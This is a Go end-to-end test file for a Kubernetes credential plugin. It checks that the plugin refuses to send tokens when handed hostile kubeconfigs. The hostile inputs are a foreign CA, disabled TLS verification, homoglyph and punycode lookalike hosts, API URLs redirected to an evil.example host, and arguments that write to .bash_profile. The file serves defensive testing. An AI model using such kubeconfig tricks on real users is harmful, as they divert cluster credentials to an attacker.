//go:build linux

package e2e

import (
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/doks-auth/doks-auth/pkg/digitalocean/digitaloceantest"
)

// attacker is a server to which a kubeconfig sends clients instead of the cluster, through a proxy.
type attacker struct {
	ca       string // base64, as in a kubeconfig
	proxyURL string
	requests atomic.Int32 // all requests received
	bearers  atomic.Int32 // those with a credential
}

// newAttacker returns an attacker for a cluster and for a lookalike of its host name.
func newAttacker(t *testing.T, cluster *digitaloceantest.Cluster, lookalike string) *attacker {
	t.Helper()
	foreign, err := digitaloceantest.NewCluster(cluster.ID) // with another authority
	if err != nil {
		t.Fatal(err)
	}
	a := &attacker{ca: base64.StdEncoding.EncodeToString(foreign.CA())}
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		a.requests.Add(1)
		if r.Header.Get("Authorization") != "" || len(r.TLS.PeerCertificates) > 0 {
			a.bearers.Add(1)
		}
	}))
	certificate, key, err := foreign.ServerCertificate()
	if err != nil {
		t.Fatal(err)
	}
	pair, err := tls.X509KeyPair(certificate, key)
	if err != nil {
		t.Fatal(err)
	}
	server.TLS = &tls.Config{Certificates: []tls.Certificate{pair}, ClientAuth: tls.RequestClientCert}
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.StartTLS()
	addr := server.Listener.Addr().String()
	routes := map[string]string{cluster.Host(): addr, lookalike + ":443": addr}
	proxy := httptest.NewServer(digitaloceantest.Proxy(routes))
	t.Cleanup(func() { server.Close(); proxy.Close() })
	a.proxyURL = proxy.URL
	return a
}

// No kubectl gets a credential for a kubeconfig with the right server, or a lookalike, at which someone else can
// answer.
func TestAttackerSeesNoCredential(t *testing.T) {
	host := strings.TrimSuffix(w.token.Host(), ":443")
	lookalike := tokenID + ".k8s.xn--ondigitalocean-o6h.com"
	own := base64.StdEncoding.EncodeToString(w.token.CA())
	both := func(a *attacker) string {
		theirs, err := base64.StdEncoding.DecodeString(a.ca)
		if err != nil {
			t.Fatal(err)
		}
		return base64.StdEncoding.EncodeToString(append(theirs, w.token.CA()...))
	}
	const insecure = "\n    insecure-skip-tls-verify: true"
	tests := map[string]func(a *attacker) string{ // each returns a cluster entry's fields
		"another authority": func(a *attacker) string {
			return "server: https://" + host + "\n    certificate-authority-data: " + a.ca
		},
		"its own and another": func(a *attacker) string {
			return "server: https://" + host + "\n    certificate-authority-data: " + both(a)
		},
		"insecure": func(*attacker) string { return "server: https://" + host + insecure },
		"another TLS server name": func(*attacker) string {
			return "server: https://" + host + "\n    certificate-authority-data: " + own +
				"\n    tls-server-name: evil.example"
		},
		"a name that looks like it": func(*attacker) string {
			return "server: https://" + strings.Replace(host, "ondi", "ond\u0130", 1) + insecure
		},
		"its punycode": func(*attacker) string { return "server: https://" + lookalike + insecure },
		"a password before the host": func(*attacker) string {
			return "server: https://" + host + "@" + lookalike + insecure
		},
	}
	for _, client := range []string{"kubectl", "kubectl-old"} {
		for name, cluster := range tests {
			t.Run(client+","+name, func(t *testing.T) {
				u := newUser(t, nil)
				if got := u.plugin(); got.code != 0 { // fills the cache
					t.Fatalf("got exit code %d, want 0: %s", got.code, got.stderr)
				}
				a := newAttacker(t, w.token, lookalike)
				path := strangersConfig(u, fmt.Sprintf("proxy-url: %s\n    %s", a.proxyURL, cluster(a)),
					"exec-credential, "+tokenID, "")
				got := u.kubectl(client, path, "", "get", "ns")
				if got.code == 0 || !strings.Contains(got.stderr, "refusing to give the credential") ||
					!strings.Contains(got.stderr, "exit code 7") {
					t.Errorf("got exit code %d, want a refusal with the plugin's exit code 7: %s", got.code, got.stderr)
				}
				if n := a.bearers.Load(); n > 0 {
					t.Errorf("got %d of %d requests with a credential, want none", n, a.requests.Load())
				}
				if mints := u.api.Mints(tokenID); mints != 1 {
					t.Errorf("got %d mints, want 1", mints)
				}
			})
		}
	}
}

// strangersText returns a kubeconfig that runs a program, with a cluster's fields and the items of args and env.
func strangersText(cluster, command, args, env string) string {
	return fmt.Sprintf(`apiVersion: v1
kind: Config
current-context: c
clusters:
- name: c
  cluster:
    %s
users:
- name: u
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: %s
      args: [%s]
      env: [%s]
      provideClusterInfo: true
      interactiveMode: Never
contexts:
- {name: c, context: {cluster: c, user: u}}
`, cluster, command, args, env)
}

// strangersConfig writes a kubeconfig that runs the plugin, with a cluster's fields and the items of args and env,
// and returns its path.
func strangersConfig(u *user, cluster, args, env string) string {
	u.t.Helper()
	path := filepath.Join(u.home, "config")
	text := strangersText(cluster, plugin(), args, env)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		u.t.Fatal(err)
	}
	return path
}

// kubectl's allowlist doesn't restrict a kubeconfig's args and env. None of these gets the
// access token or makes the plugin edit a file.
func TestKubeconfigAsALever(t *testing.T) {
	u := newUser(t, nil)
	var seen atomic.Int32
	evil := httptest.NewTLSServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" {
			seen.Add(1)
		}
	}))
	defer evil.Close()
	profile := filepath.Join(u.home, ".bash_profile")
	evilURL := "https://localhost.evil.example:" + evil.URL[strings.LastIndexByte(evil.URL, ':')+1:]
	tests := map[string]struct{ args, env string }{
		"save to another file": {"kubeconfig, save, " + tokenID + ", --alias, x, --kubeconfig=" + profile, ""},
		"its own API, by flag": {"exec-credential, --no-cache, --api-url=" + evilURL + ", " + tokenID, ""},
		"its own API, by environment": {
			args: "exec-credential, --no-cache, " + tokenID,
			env:  "{name: DIGITALOCEAN_API_URL, value: '" + evilURL + "'}",
		},
		"cache clear":     {"cache, clear, --all", ""},
		"completion":      {"__complete, cluster, list, ''", ""},
		"an endless file": {"exec-credential, --token-file=/dev/zero, " + tokenID, ""},
		"another's file":  {"exec-credential, --token-file=/proc/self/fd/0, " + tokenID, ""},
	}
	for _, client := range []string{"kubectl", "kubectl-old"} {
		for name, test := range tests {
			t.Run(client+","+name, func(t *testing.T) {
				path := strangersConfig(u, fmt.Sprintf(
					"server: %q\n    proxy-url: %q\n    certificate-authority-data: %s",
					w.token.Server, w.proxyURL, base64.StdEncoding.EncodeToString(w.token.CA())), test.args, test.env)
				got := u.kubectl(client, path, "", "get", "ns")
				if got.code == 0 || !strings.Contains(got.stderr, "exit code 7") {
					t.Errorf("got exit code %d, want a refusal with the plugin's exit code 7: %s", got.code, got.stderr)
				}
				if _, err := os.Lstat(profile); err == nil {
					t.Errorf("got file %s, want none", profile)
				}
			})
		}
	}
	if n := seen.Load(); n > 0 {
		t.Errorf("got the access token sent elsewhere %d times, want never", n)
	}
}
